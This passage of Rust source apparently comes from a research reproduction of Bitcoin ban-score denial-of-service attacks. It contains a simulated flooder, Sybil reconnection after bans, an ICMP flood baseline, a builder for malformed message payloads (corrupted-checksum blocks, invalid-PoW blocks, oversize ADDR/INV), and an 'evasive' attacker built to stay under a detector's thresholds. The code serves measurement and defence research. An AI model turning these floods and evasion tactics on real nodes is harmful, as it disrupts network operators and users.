    fn small_messages_hit_the_app_cap() {
        let m = SocketModel::default();
        // A ~100-byte ping from one socket: limited by the 10³ cap, not
        // bandwidth.
        assert!((m.aggregate_rate(1, 100) - 1000.0).abs() < 1.0);
        assert_eq!(m.min_interval(1, 100), 1_000_000); // 1 ms
    }

    #[test]
    fn megabyte_blocks_hit_the_bandwidth_cap() {
        let m = SocketModel::default();
        // 1 MB messages: 2 Gbps / 8 Mbit = 250 msg/s ≪ 1000 msg/s.
        let rate = m.aggregate_rate(1, 1_000_000);
        assert!((rate - 250.0).abs() < 1.0, "rate {rate}");
    }

    #[test]
    fn thread_scaling_is_sublinear() {
        let m = SocketModel::default();
        let r1 = m.aggregate_rate(1, 100);
        let r10 = m.aggregate_rate(10, 100);
        let r20 = m.aggregate_rate(20, 100);
        assert!(r10 > r1 && r20 > r10, "monotone");
        assert!(r10 < 10.0 * r1, "sublinear at 10");
        assert!(r20 < 2.0 * r10, "diminishing returns");
    }

    #[test]
    fn bandwidth_cap_shared_across_connections() {
        let m = SocketModel::default();
        // 1 MB blocks: total stays ~250/s no matter how many sockets.
        let r20 = m.aggregate_rate(20, 1_000_000);
        assert!((r20 - 250.0).abs() < 1.0, "rate {r20}");
        assert!(m.per_conn_rate(20, 1_000_000) < 15.0);
    }

    #[test]
    fn interval_is_inverse_of_rate() {
        let m = SocketModel::default();
        let rate = m.per_conn_rate(4, 100);
        let ival = m.min_interval(4, 100);
        let recon = SECS as f64 / ival as f64;
        assert!((recon - rate).abs() / rate < 0.01);
    }
}
