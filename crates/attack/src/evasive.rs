//! The "more intelligent attacker" the paper leaves as future work
//! (§VII-A2): a BM-DoS flooder that tries to stay under the detector's
//! thresholds.
//!
//! Two evasion controls:
//!
//! * **rate budgeting** — flood no faster than a chosen fraction of the
//!   victim's normal message rate, so the `n` feature stays inside `τ_n`;
//! * **mimicry** — instead of a single message type, draw each message
//!   from a distribution that imitates normal traffic, so the `Λ`
//!   correlation stays above `τ_Λ`.
//!
//! The paper's security argument is exactly the tradeoff this module makes
//! measurable: an attacker that throttles itself below detection inflicts
//! proportionally less damage. The evasion scenario
//! (`banscore::scenario::evasion`) quantifies it.

use crate::payload::FloodPayload;
use btc_netsim::packet::SockAddr;
use btc_netsim::sim::{App, Ctx};
use btc_netsim::tcp::ConnId;
use btc_netsim::time::from_secs_f64;
use btc_wire::drain::FrameAssembler;
use btc_wire::message::{decode_frame, Message, RawMessage, VersionMessage};
use btc_wire::types::{NetAddr, Network};
use std::any::Any;

/// A message class with a mimicry weight.
#[derive(Clone, Debug)]
pub struct MimicEntry {
    /// What to send.
    pub payload: FloodPayload,
    /// Relative frequency.
    pub weight: f64,
}

/// Configuration of the evasive flooder.
#[derive(Clone, Debug)]
pub struct EvasiveConfig {
    /// The victim.
    pub target: SockAddr,
    /// Network magic.
    pub network: Network,
    /// Aggregate send rate in messages/minute — pick below the detector's
    /// `τ_n` headroom to stay invisible.
    pub rate_per_min: f64,
    /// The mimicry mix (weights need not sum to 1).
    pub mix: Vec<MimicEntry>,
}

impl EvasiveConfig {
    /// A mix imitating normal Bitcoin traffic (the TX/INV-dominated,
    /// ping-sprinkled distribution the detector was trained on), with the
    /// damaging payload (bogus blocks) hidden inside at `attack_weight`.
    pub fn stealthy(target: SockAddr, rate_per_min: f64, attack_weight: f64) -> Self {
        let benign = (1.0 - attack_weight).max(0.0);
        EvasiveConfig {
            target,
            network: Network::Regtest,
            rate_per_min,
            mix: vec![
                MimicEntry {
                    payload: FloodPayload::BenignTx,
                    weight: benign * 0.42,
                },
                MimicEntry {
                    payload: FloodPayload::BenignInv,
                    weight: benign * 0.42,
                },
                MimicEntry {
                    payload: FloodPayload::Ping,
                    weight: benign * 0.16,
                },
                MimicEntry {
                    payload: FloodPayload::BogusChecksumBlock {
                        payload_bytes: 200_000,
                    },
                    weight: attack_weight,
                },
            ],
        }
    }
}

/// Statistics of an evasive flood.
#[derive(Clone, Copy, Debug, Default)]
pub struct EvasiveStats {
    /// Messages sent.
    pub messages_sent: u64,
    /// Payload bytes sent.
    pub bytes_sent: u64,
    /// Times the connection was reset (should stay 0: evasion also means
    /// never tripping a ban rule).
    pub resets: u64,
}

/// The throttled, mimicking flooder.
pub struct EvasiveFlooder {
    /// Configuration.
    pub cfg: EvasiveConfig,
    /// Statistics.
    pub stats: EvasiveStats,
    conn: Option<ConnId>,
    handshaked: bool,
    frames: FrameAssembler,
    nonce: u64,
}

impl EvasiveFlooder {
    /// Creates an evasive flooder.
    pub fn new(cfg: EvasiveConfig) -> Self {
        let frames = FrameAssembler::new(cfg.network);
        EvasiveFlooder {
            cfg,
            stats: EvasiveStats::default(),
            conn: None,
            handshaked: false,
            frames,
            nonce: 0,
        }
    }

    fn schedule_next(&self, ctx: &mut Ctx<'_>) {
        if self.cfg.rate_per_min <= 0.0 {
            return;
        }
        let mean_secs = 60.0 / self.cfg.rate_per_min;
        let wait = ctx.rng().exponential(mean_secs).clamp(0.001, 600.0);
        ctx.set_timer(from_secs_f64(wait), 1);
    }

    fn pick_payload(&self, ctx: &mut Ctx<'_>) -> FloodPayload {
        let total: f64 = self.cfg.mix.iter().map(|e| e.weight).sum();
        let mut roll = ctx.rng().gen_f64() * total.max(f64::MIN_POSITIVE);
        for e in &self.cfg.mix {
            if roll < e.weight {
                return e.payload.clone();
            }
            roll -= e.weight;
        }
        self.cfg
            .mix
            .last()
            .map(|e| e.payload.clone())
            .unwrap_or(FloodPayload::Ping)
    }
}

impl App for EvasiveFlooder {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        self.conn = Some(ctx.connect(self.cfg.target));
    }

    fn on_connected(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, peer: SockAddr, _inb: bool) {
        self.conn = Some(conn);
        let local = ctx.local_of(conn).unwrap_or_default();
        let v = VersionMessage::new(
            NetAddr::new(local.ip, local.port),
            NetAddr::new(peer.ip, peer.port),
            ctx.rng().next_u64(),
        );
        let bytes = RawMessage::frame(self.cfg.network, &Message::Version(v)).to_bytes();
        ctx.send(conn, &bytes);
    }

    fn on_data(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _peer: SockAddr, data: &[u8]) {
        self.frames.push(data);
        while let Some(raw) = self.frames.next_frame() {
            match decode_frame(&raw) {
                Ok(Message::Version(_)) => {
                    let b = RawMessage::frame(self.cfg.network, &Message::Verack).to_bytes();
                    ctx.send(conn, &b);
                }
                Ok(Message::Verack)
                    if !self.handshaked => {
                        self.handshaked = true;
                        self.schedule_next(ctx);
                    }
                _ => {}
            }
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        let Some(conn) = self.conn else {
            return;
        };
        if !ctx.is_established(conn) || !self.handshaked {
            return;
        }
        let payload = self.pick_payload(ctx);
        let local = ctx.local_of(conn).unwrap_or_default();
        self.nonce += 1;
        let bytes = payload.build(self.cfg.network, local, self.cfg.target, self.nonce);
        if ctx.send(conn, &bytes) {
            self.stats.messages_sent += 1;
            self.stats.bytes_sent += bytes.len() as u64;
        }
        self.schedule_next(ctx);
    }

    fn on_closed(
        &mut self,
        _ctx: &mut Ctx<'_>,
        _conn: ConnId,
        _peer: SockAddr,
        _reason: btc_netsim::tcp::CloseReason,
    ) {
        self.stats.resets += 1;
        self.conn = None;
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stealthy_mix_weights() {
        let cfg = EvasiveConfig::stealthy(SockAddr::new([1, 2, 3, 4], 8333), 60.0, 0.25);
        assert_eq!(cfg.mix.len(), 4);
        let total: f64 = cfg.mix.iter().map(|e| e.weight).sum();
        assert!((total - 1.0).abs() < 1e-9);
        // The damaging payload is the bogus block, hidden at 25%.
        let bogus = cfg
            .mix
            .iter()
            .find(|e| matches!(e.payload, FloodPayload::BogusChecksumBlock { .. }))
            .unwrap();
        assert!((bogus.weight - 0.25).abs() < 1e-9);
    }
}
