//! The BM-DoS flood engine: an attacker app that opens one or more Bitcoin
//! sessions to the target, completes the version handshake, then floods a
//! chosen [`FloodPayload`] — optionally reconnecting from fresh Sybil
//! ports whenever the target bans the current identifier (attack vector 3).
//!
//! An [`IcmpFlooder`] provides the network-layer baseline of Table III.

use crate::payload::FloodPayload;
use crate::socket_model::SocketModel;
use btc_netsim::packet::{IcmpEcho, SockAddr};
use btc_netsim::sim::{App, Ctx};
use btc_netsim::tcp::{CloseReason, ConnId};
use btc_netsim::time::{Nanos, MILLIS, SECS};
use btc_wire::drain::FrameAssembler;
use btc_wire::message::{decode_frame, Message, RawMessage, VersionMessage};
use btc_wire::types::{NetAddr, Network};
use std::any::Any;
use std::collections::BTreeMap;

/// Approximate attacker-side cycles to construct and serialize one message
/// of `n` payload bytes (used for the cost side of impact-cost accounting).
pub fn build_cost_cycles(n: usize) -> u64 {
    2_000 + 3 * n as u64
}

/// One experienced ban.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct BanRecord {
    /// When the connection was reset.
    pub time: Nanos,
    /// The banned local identifier.
    pub identifier: SockAddr,
    /// Messages sent on that connection before the ban.
    pub messages: u64,
    /// When that connection's flooding started.
    pub started: Nanos,
}

/// Flood statistics.
#[derive(Clone, Debug, Default)]
pub struct FloodStats {
    /// Total messages sent.
    pub messages_sent: u64,
    /// Total payload bytes sent.
    pub bytes_sent: u64,
    /// Completed handshakes.
    pub sessions_established: u64,
    /// Bans experienced (connection reset by peer).
    pub bans: Vec<BanRecord>,
    /// Attacker-side build cost in cycles.
    pub build_cycles: u64,
}

/// Flooder configuration.
#[derive(Clone, Debug)]
pub struct FloodConfig {
    /// The victim.
    pub target: SockAddr,
    /// Network magic to speak.
    pub network: Network,
    /// Concurrent Sybil connections.
    pub connections: usize,
    /// Extra delay between consecutive messages per connection (0 = "as
    /// fast as possible", which still respects the socket model).
    pub extra_interval: Nanos,
    /// What to send.
    pub payload: FloodPayload,
    /// Reconnect from the next port when banned (serial Sybil).
    pub reconnect_on_ban: bool,
    /// Socket-setup latency before a reconnection attempt (the paper
    /// measures ≈0.2 s for its Python attacker).
    pub connect_setup_delay: Nanos,
    /// First source port for deliberately chosen identifiers (0 = let the
    /// stack pick ephemeral ports).
    pub sybil_port_start: u16,
    /// Stop after this many messages in total (None = flood forever).
    pub max_messages: Option<u64>,
    /// The socket model limiting send rates.
    pub socket_model: SocketModel,
}

impl Default for FloodConfig {
    fn default() -> Self {
        FloodConfig {
            target: SockAddr::new([10, 0, 0, 1], 8333),
            network: Network::Regtest,
            connections: 1,
            extra_interval: 0,
            payload: FloodPayload::Ping,
            reconnect_on_ban: false,
            connect_setup_delay: 200 * MILLIS,
            sybil_port_start: 0,
            max_messages: None,
            socket_model: SocketModel::default(),
        }
    }
}

struct ConnState {
    handshaked: bool,
    sent: u64,
    frames: FrameAssembler,
    started: Nanos,
    local: SockAddr,
}

/// The flooding attacker app.
pub struct Flooder {
    /// Configuration.
    pub cfg: FloodConfig,
    /// Statistics.
    pub stats: FloodStats,
    conns: BTreeMap<ConnId, ConnState>,
    next_port: u16,
    msg_size: usize,
    nonce: u64,
}

impl Flooder {
    /// Creates a flooder.
    pub fn new(cfg: FloodConfig) -> Self {
        let msg_size = cfg.payload.wire_size(cfg.network);
        let next_port = cfg.sybil_port_start;
        Flooder {
            cfg,
            stats: FloodStats::default(),
            conns: BTreeMap::new(),
            next_port,
            msg_size,
            nonce: 0,
        }
    }

    /// Mean time from flood start to ban across recorded bans (seconds).
    pub fn mean_time_to_ban(&self) -> Option<f64> {
        if self.stats.bans.is_empty() {
            return None;
        }
        let total: f64 = self
            .stats
            .bans
            .iter()
            .map(|b| (b.time - b.started) as f64 / SECS as f64)
            .sum();
        Some(total / self.stats.bans.len() as f64)
    }

    fn interval(&self) -> Nanos {
        self.cfg
            .socket_model
            .min_interval(self.cfg.connections, self.msg_size)
            + self.cfg.extra_interval
    }

    fn open_connection(&mut self, ctx: &mut Ctx<'_>) {
        if self.cfg.sybil_port_start > 0 {
            // Deliberate identifier choice: walk the port space.
            loop {
                let port = self.next_port;
                self.next_port = self.next_port.checked_add(1).unwrap_or(49152);
                if ctx.connect_from(port, self.cfg.target).is_some() {
                    break;
                }
            }
        } else {
            ctx.connect(self.cfg.target);
        }
    }

    fn flood_done(&self) -> bool {
        self.cfg
            .max_messages
            .map(|m| self.stats.messages_sent >= m)
            .unwrap_or(false)
    }

    fn send_one(&mut self, ctx: &mut Ctx<'_>, conn: ConnId) {
        if self.flood_done() {
            return;
        }
        let Some(local) = ctx.local_of(conn) else {
            return;
        };
        self.nonce += 1;
        let bytes = self
            .cfg
            .payload
            .build(self.cfg.network, local, self.cfg.target, self.nonce);
        let cost = build_cost_cycles(bytes.len());
        ctx.charge_cpu(cost);
        self.stats.build_cycles += cost;
        if ctx.send(conn, &bytes) {
            self.stats.messages_sent += 1;
            self.stats.bytes_sent += bytes.len() as u64;
            if let Some(c) = self.conns.get_mut(&conn) {
                c.sent += 1;
            }
        }
    }
}

impl App for Flooder {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        for _ in 0..self.cfg.connections {
            self.open_connection(ctx);
        }
    }

    fn on_connected(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, peer: SockAddr, _inbound: bool) {
        // Start the Bitcoin session: send our (true) VERSION.
        let local = ctx.local_of(conn).unwrap_or_default();
        let v = VersionMessage::new(
            NetAddr::new(local.ip, local.port),
            NetAddr::new(peer.ip, peer.port),
            ctx.rng().next_u64(),
        );
        let bytes = RawMessage::frame(self.cfg.network, &Message::Version(v)).to_bytes();
        ctx.send(conn, &bytes);
        let local = ctx.local_of(conn).unwrap_or_default();
        self.conns.insert(
            conn,
            ConnState {
                handshaked: false,
                sent: 0,
                frames: FrameAssembler::new(self.cfg.network),
                started: ctx.now(),
                local,
            },
        );
    }

    fn on_data(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _peer: SockAddr, data: &[u8]) {
        let Some(state) = self.conns.get_mut(&conn) else {
            return;
        };
        state.frames.push(data);
        loop {
            let Some(raw) = self
                .conns
                .get_mut(&conn)
                .and_then(|s| s.frames.next_frame())
            else {
                break;
            };
            match decode_frame(&raw) {
                Ok(Message::Version(_)) => {
                    // Finish the handshake properly: acknowledge the
                    // target's VERSION so the session is complete
                    // and flood messages aren't eaten (and scored!)
                    // by the pre-VERACK rules.
                    let bytes = RawMessage::frame(self.cfg.network, &Message::Verack).to_bytes();
                    ctx.send(conn, &bytes);
                }
                Ok(Message::Verack) => {
                    if let Some(state) = self.conns.get_mut(&conn) {
                        if !state.handshaked {
                            state.handshaked = true;
                            state.started = ctx.now();
                            self.stats.sessions_established += 1;
                            // Begin flooding on this connection.
                            ctx.set_timer(self.interval(), conn.0);
                        }
                    }
                }
                _ => {}
            }
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        if token == u64::MAX {
            // Reconnection tick for serial Sybil.
            self.open_connection(ctx);
            return;
        }
        let conn = ConnId(token);
        let alive = self
            .conns
            .get(&conn)
            .map(|c| c.handshaked)
            .unwrap_or(false);
        if !alive || !ctx.is_established(conn) || self.flood_done() {
            return;
        }
        self.send_one(ctx, conn);
        ctx.set_timer(self.interval(), token);
    }

    fn on_closed(&mut self, ctx: &mut Ctx<'_>, conn: ConnId, _peer: SockAddr, reason: CloseReason) {
        if let Some(state) = self.conns.remove(&conn) {
            if reason == CloseReason::RemoteReset {
                // The target reset us: with a punishable payload this means
                // our identifier crossed the ban threshold.
                self.stats.bans.push(BanRecord {
                    time: ctx.now(),
                    identifier: state.local,
                    messages: state.sent,
                    started: state.started,
                });
                if self.cfg.reconnect_on_ban && !self.flood_done() {
                    ctx.set_timer(self.cfg.connect_setup_delay, u64::MAX);
                }
            }
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

/// ICMP flood statistics.
#[derive(Clone, Copy, Debug, Default)]
pub struct IcmpStats {
    /// Echo requests sent.
    pub sent: u64,
    /// Echo replies received.
    pub replies: u64,
}

/// The network-layer flooding baseline (`hping`-style ICMP echo flood).
pub struct IcmpFlooder {
    /// Victim IP.
    pub target: [u8; 4],
    /// Requests per second (up to the 10⁶ network-layer cap).
    pub rate: f64,
    /// Echo payload size (56 bytes like classic `ping`).
    pub payload_len: usize,
    /// Statistics.
    pub stats: IcmpStats,
    seq: u16,
}

impl IcmpFlooder {
    /// Creates a flooder at `rate` packets/second.
    pub fn new(target: [u8; 4], rate: f64) -> Self {
        IcmpFlooder {
            target,
            rate: rate.min(crate::socket_model::NETWORK_LAYER_RATE_CAP),
            payload_len: 56,
            stats: IcmpStats::default(),
            seq: 0,
        }
    }

    /// Packets sent per timer tick (batched so the simulator never needs
    /// more than 1000 timer events per virtual second).
    fn batch(&self) -> u64 {
        (self.rate / 1000.0).ceil().max(1.0) as u64
    }

    fn tick_interval(&self) -> Nanos {
        let ticks_per_sec = self.rate / self.batch() as f64;
        (SECS as f64 / ticks_per_sec).max(1.0) as Nanos
    }
}

impl App for IcmpFlooder {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.set_timer(self.tick_interval(), 1);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: u64) {
        for _ in 0..self.batch() {
            self.seq = self.seq.wrapping_add(1);
            ctx.send_icmp(self.target, 0x77, self.seq, self.payload_len);
            self.stats.sent += 1;
            // Raw-socket send cost is tiny (the paper's hping reaches 10⁶
            // pps at moderate CPU).
            ctx.charge_cpu(300);
        }
        ctx.set_timer(self.tick_interval(), 1);
    }

    fn on_icmp(&mut self, _ctx: &mut Ctx<'_>, _from: [u8; 4], echo: &IcmpEcho) {
        if !echo.request {
            self.stats.replies += 1;
        }
    }

    fn as_any(&self) -> &dyn Any {
        self
    }

    fn as_any_mut(&mut self) -> &mut dyn Any {
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn interval_respects_socket_model() {
        let f = Flooder::new(FloodConfig::default());
        // Ping ≈ 32 wire bytes; 1 connection → 1 ms interval.
        assert_eq!(f.interval(), 1_000_000);
        let f = Flooder::new(FloodConfig {
            extra_interval: 1_000_000,
            ..FloodConfig::default()
        });
        assert_eq!(f.interval(), 2_000_000);
    }

    #[test]
    fn bogus_block_interval_is_bandwidth_limited() {
        let f = Flooder::new(FloodConfig {
            payload: FloodPayload::BogusChecksumBlock {
                payload_bytes: 1_000_000,
            },
            ..FloodConfig::default()
        });
        // ≈250 msg/s → 4 ms.
        assert!(f.interval() >= 3_900_000, "interval {}", f.interval());
    }

    #[test]
    fn icmp_batching_keeps_tick_rate_bounded() {
        let f = IcmpFlooder::new([1, 2, 3, 4], 1_000_000.0);
        assert_eq!(f.batch(), 1000);
        assert_eq!(f.tick_interval(), 1_000_000);
        let slow = IcmpFlooder::new([1, 2, 3, 4], 100.0);
        assert_eq!(slow.batch(), 1);
        assert_eq!(slow.tick_interval(), 10_000_000);
    }

    #[test]
    fn icmp_rate_capped_at_network_layer_limit() {
        let f = IcmpFlooder::new([1, 2, 3, 4], 1e9);
        assert_eq!(f.rate, crate::socket_model::NETWORK_LAYER_RATE_CAP);
    }

    #[test]
    fn build_cost_scales_with_size() {
        assert!(build_cost_cycles(1_000_000) > 100 * build_cost_cycles(100));
    }
}
