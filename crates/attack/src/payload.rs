//! Attack payload construction: the misbehaving, bogus and benign messages
//! the BM-DoS and Defamation attacks transmit.

use btc_netsim::packet::SockAddr;
use btc_wire::block::{Block, BlockHeader};
use btc_wire::constants::{MAX_ADDR_TO_SEND, MAX_INV_SZ};
use btc_wire::message::{Message, RawMessage, VersionMessage};
use btc_wire::types::{Hash256, InvType, Inventory, NetAddr, Network, TimestampedAddr};
use btc_wire::bytes::Bytes;

/// Which message a flood sends each tick.
#[derive(Clone, Debug, PartialEq)]
pub enum FloodPayload {
    /// BM-DoS vector 1: `PING` — a message type with **no ban-score rule**;
    /// the victim must process every one and can never punish the sender.
    Ping,
    /// BM-DoS vector 2: a `BLOCK` frame with a deliberately **corrupted
    /// checksum**. The victim pays the `sha256d` pass over `payload_bytes`
    /// of junk and drops the frame *before* misbehavior tracking runs.
    BogusChecksumBlock {
        /// Size of the junk payload.
        payload_bytes: usize,
    },
    /// BM-DoS vector 3 fuel: a structurally complete block whose PoW is
    /// impossible — `Misbehaving(100)` on sight, used with serial Sybil
    /// reconnection.
    InvalidPowBlock,
    /// The Figure-8 Defamation workload: duplicate `VERSION` messages,
    /// +1 ban score each, 100 to a ban.
    DuplicateVersion,
    /// Oversized `ADDR` (+20 each, 5 to a ban).
    OversizeAddr,
    /// Oversized `INV` (+20 each, 5 to a ban).
    OversizeInv,
    /// A fresh, valid transaction (mimicry traffic for the evasive
    /// attacker — indistinguishable from honest relay).
    BenignTx,
    /// A single-entry `INV` announcing an unknown txid (mimicry traffic).
    BenignInv,
    /// Any fixed raw frame (escape hatch for custom vectors).
    Custom(RawMessage),
}

impl FloodPayload {
    /// Builds the wire bytes of one flood message.
    ///
    /// `from`/`to` parameterize messages that embed addresses
    /// (`VERSION`); `nonce` decorrelates messages that carry one.
    pub fn build(&self, network: Network, from: SockAddr, to: SockAddr, nonce: u64) -> Bytes {
        match self {
            FloodPayload::Ping => {
                RawMessage::frame(network, &Message::Ping(nonce)).to_bytes()
            }
            FloodPayload::BogusChecksumBlock { payload_bytes } => {
                // Junk payload: never decoded, so contents are irrelevant —
                // only the checksum pass's cost matters.
                let junk = vec![0xAB; *payload_bytes];
                RawMessage::frame_raw(network, "block", Bytes::from(junk))
                    .corrupt_checksum()
                    .to_bytes()
            }
            FloodPayload::InvalidPowBlock => {
                let mut block = Block {
                    header: BlockHeader {
                        // Mainnet-hard target: `check_pow` cannot pass.
                        bits: 0x1d00_ffff,
                        nonce: nonce as u32,
                        ..BlockHeader::default()
                    },
                    txs: vec![btc_wire::Transaction::coinbase(50, &nonce.to_le_bytes())],
                };
                block.header.merkle_root = block.merkle_root();
                RawMessage::frame(network, &Message::Block(block)).to_bytes()
            }
            FloodPayload::DuplicateVersion => {
                let v = VersionMessage::new(
                    NetAddr::new(from.ip, from.port),
                    NetAddr::new(to.ip, to.port),
                    nonce,
                );
                RawMessage::frame(network, &Message::Version(v)).to_bytes()
            }
            FloodPayload::OversizeAddr => {
                let entries = (0..=MAX_ADDR_TO_SEND as u32)
                    .map(|i| TimestampedAddr {
                        time: i,
                        addr: NetAddr::new(i.to_le_bytes(), 8333),
                    })
                    .collect();
                RawMessage::frame(network, &Message::Addr(entries)).to_bytes()
            }
            FloodPayload::OversizeInv => {
                let entries = (0..=MAX_INV_SZ as u32)
                    .map(|i| {
                        Inventory::new(InvType::Tx, Hash256::hash(&i.to_le_bytes()))
                    })
                    .collect();
                RawMessage::frame(network, &Message::Inv(entries)).to_bytes()
            }
            FloodPayload::BenignTx => {
                let tx = btc_wire::Transaction::new(
                    2,
                    vec![btc_wire::tx::TxIn::new(btc_wire::tx::OutPoint::new(
                        Hash256::hash(&nonce.to_le_bytes()),
                        0,
                    ))],
                    vec![btc_wire::tx::TxOut::new(
                        1_000 + (nonce % 50_000) as i64,
                        vec![0x51],
                    )],
                    0,
                );
                RawMessage::frame(network, &Message::Tx(tx)).to_bytes()
            }
            FloodPayload::BenignInv => {
                let inv = vec![Inventory::new(
                    InvType::Tx,
                    Hash256::hash(&nonce.wrapping_mul(0x9E37).to_le_bytes()),
                )];
                RawMessage::frame(network, &Message::Inv(inv)).to_bytes()
            }
            FloodPayload::Custom(raw) => raw.to_bytes(),
        }
    }

    /// Approximate wire size of one message (used by the socket model's
    /// bandwidth cap).
    pub fn wire_size(&self, network: Network) -> usize {
        self.build(network, SockAddr::default(), SockAddr::default(), 0)
            .len()
    }

    /// Whether the payload triggers a ban-score rule at the victim.
    pub fn is_punishable(&self) -> bool {
        !matches!(
            self,
            FloodPayload::Ping
                | FloodPayload::BogusChecksumBlock { .. }
                | FloodPayload::BenignTx
                | FloodPayload::BenignInv
                | FloodPayload::Custom(_)
        )
    }
}

/// Frames a [`Message`] for sending (attacker-side convenience).
pub fn frame_bytes(network: Network, msg: &Message) -> Bytes {
    RawMessage::frame(network, msg).to_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_wire::encode::DecodeError;
    use btc_wire::message::{decode_frame, read_frame, FrameResult};

    const NET: Network = Network::Regtest;

    fn parse(bytes: &[u8]) -> Result<Message, DecodeError> {
        match read_frame(NET, bytes)? {
            FrameResult::Frame { raw, .. } => decode_frame(&raw),
            FrameResult::Incomplete => panic!("incomplete"),
        }
    }

    #[test]
    fn ping_payload_is_valid_wire() {
        let b = FloodPayload::Ping.build(NET, SockAddr::default(), SockAddr::default(), 7);
        assert_eq!(parse(&b).unwrap(), Message::Ping(7));
    }

    #[test]
    fn bogus_block_fails_checksum_only() {
        let b = FloodPayload::BogusChecksumBlock { payload_bytes: 1000 }.build(
            NET,
            SockAddr::default(),
            SockAddr::default(),
            0,
        );
        // Frame parses (magic, length fine) but checksum verification fails.
        assert!(matches!(parse(&b), Err(DecodeError::BadChecksum { .. })));
        assert_eq!(b.len(), 24 + 1000);
    }

    #[test]
    fn invalid_pow_block_decodes_but_fails_check() {
        let b =
            FloodPayload::InvalidPowBlock.build(NET, SockAddr::default(), SockAddr::default(), 1);
        let Message::Block(block) = parse(&b).unwrap() else {
            panic!("not a block")
        };
        assert_eq!(block.check(), Err("high-hash"));
    }

    #[test]
    fn duplicate_version_is_well_formed() {
        let from = SockAddr::new([9, 9, 9, 9], 50_000);
        let to = SockAddr::new([10, 0, 0, 1], 8333);
        let b = FloodPayload::DuplicateVersion.build(NET, from, to, 3);
        let Message::Version(v) = parse(&b).unwrap() else {
            panic!("not version")
        };
        assert_eq!(v.addr_from.ip, [9, 9, 9, 9]);
        assert_eq!(v.nonce, 3);
    }

    #[test]
    fn oversize_payloads_exceed_limits() {
        let b = FloodPayload::OversizeAddr.build(NET, SockAddr::default(), SockAddr::default(), 0);
        let Message::Addr(list) = parse(&b).unwrap() else {
            panic!()
        };
        assert_eq!(list.len() as u64, MAX_ADDR_TO_SEND + 1);
        let b = FloodPayload::OversizeInv.build(NET, SockAddr::default(), SockAddr::default(), 0);
        let Message::Inv(list) = parse(&b).unwrap() else {
            panic!()
        };
        assert_eq!(list.len() as u64, MAX_INV_SZ + 1);
    }

    #[test]
    fn punishability_classification() {
        assert!(!FloodPayload::Ping.is_punishable());
        assert!(!FloodPayload::BogusChecksumBlock { payload_bytes: 10 }.is_punishable());
        assert!(FloodPayload::InvalidPowBlock.is_punishable());
        assert!(FloodPayload::DuplicateVersion.is_punishable());
        assert!(FloodPayload::OversizeAddr.is_punishable());
    }

    #[test]
    fn nonces_decorrelate_messages() {
        let a = FloodPayload::Ping.build(NET, SockAddr::default(), SockAddr::default(), 1);
        let b = FloodPayload::Ping.build(NET, SockAddr::default(), SockAddr::default(), 2);
        assert_ne!(a, b);
    }
}
