//! Real-hardware measurement of per-message attacker cost vs. victim
//! impact — the reproduction of Table II.
//!
//! Both sides are measured with a monotonic wall clock over many
//! iterations and converted to "clocks" at the paper's 4 GHz testbed
//! frequency, so only the *ratios* carry meaning (as in the paper).
//!
//! Attacker side: the cost to produce the wire bytes of one query. For
//! bulk data messages (`BLOCK`, `CMPCTBLOCK`, `BLOCKTXN`) the attacker
//! replays a cached frame — that is how the paper's attacker achieves a
//! 23-clock `BLOCK` send cost against a 617 k-clock victim impact.
//!
//! Victim side: the cost to take the bytes through the full receive path —
//! frame parse, `sha256d` checksum, payload decode, and the type-specific
//! validation/handling work.

use btc_node::chain::{mine_child, Chain};
use btc_node::mempool::Mempool;
use btc_wire::block::HeadersEntry;
use btc_wire::compact::{BlockTxn, BlockTxnRequest, CompactBlock, SendCmpct};
use btc_wire::message::{
    decode_frame, read_frame, FrameResult, Message, MerkleBlockMsg, RawMessage, VersionMessage,
};
use btc_wire::tx::{OutPoint, Transaction, TxIn, TxOut};
use btc_wire::types::{
    BlockLocator, Hash256, InvType, Inventory, NetAddr, Network, TimestampedAddr,
};
use btc_wire::bytes::Bytes;
use std::collections::HashSet;
use std::hint::black_box;
use std::time::Instant;

/// Cycles per nanosecond used to convert wall time to "clocks" (the
/// paper's 4 GHz testbed).
pub const CLOCKS_PER_NS: f64 = 4.0;

/// How the attacker produces each query.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum AttackerMode {
    /// Construct + serialize + frame the message fresh each time.
    Build,
    /// Replay a cached pre-framed byte buffer.
    Replay,
}

/// One row of the reproduced Table II.
#[derive(Clone, Debug)]
pub struct CostRow {
    /// Message command.
    pub command: &'static str,
    /// Attacker cost in clocks per query.
    pub attacker_clocks: f64,
    /// Victim impact in clocks per query.
    pub victim_clocks: f64,
    /// Impact-cost ratio.
    pub ratio: f64,
    /// How the attacker produced the query.
    pub mode: AttackerMode,
}

const NET: Network = Network::Regtest;

fn sample_tx(tag: u8) -> Transaction {
    Transaction::new(
        2,
        vec![TxIn::new(OutPoint::new(Hash256::hash(&[tag, 1]), 0))],
        vec![TxOut::new(10_000, vec![0x51, 0x21, 0x03])],
        0,
    )
}

/// The fixtures shared by build and process closures: a mined 60-block
/// chain plus the measurement block in its full, compact and blocktxn
/// forms. Build once via [`fixtures`] and share across rows — mining it
/// is the expensive part of a Table-II run.
pub struct Fixtures {
    chain: Chain,
    block: btc_wire::Block,
    compact: CompactBlock,
    blocktxn: BlockTxn,
    locator: BlockLocator,
}

/// Mines the shared Table-II fixtures.
pub fn fixtures() -> Fixtures {
    let mut chain = Chain::new();
    // A 60-block chain so GETHEADERS has something to serve.
    for i in 0..60u64 {
        let tip = chain.tip();
